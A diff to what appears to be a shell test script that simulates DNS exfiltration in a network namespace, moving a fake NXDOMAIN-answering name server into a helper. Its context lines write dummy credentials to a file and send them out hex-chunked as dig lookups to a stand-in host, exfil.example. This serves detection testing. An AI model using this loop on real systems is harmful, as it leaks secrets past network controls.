@@ -6,19 +6,7 @@ source "$ATTACK_LIB"
 source "$(dirname "$ATTACK_LIB")/netns.sh"
 
 netns_create
-# The attacker's name server: answers every query with NXDOMAIN.
-in_ns /usr/bin/python3 - "$PEER" <<'PY' &
-import socket, sys
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.bind((sys.argv[1], 53)); s.settimeout(15)
-try:
-    while True:
-        q, a = s.recvfrom(512)
-        s.sendto(q[:2] + b"\x81\x83" + q[4:], a)
-except socket.timeout:
-    pass
-PY
-sleep 0.3
+ns_name_server
 printf 'user=root;pass=hunter2;host=%s\n' "$(hostname)" >loot
 for chunk in $(xxd -p -c 24 loot); do
 	dig +short +time=1 +tries=1 @"$PEER" "$chunk.x1.exfil.example" A >/dev/null || true
@@ -37,4 +25,3 @@ try:
 except socket.timeout:
     pass
 PY
-wait
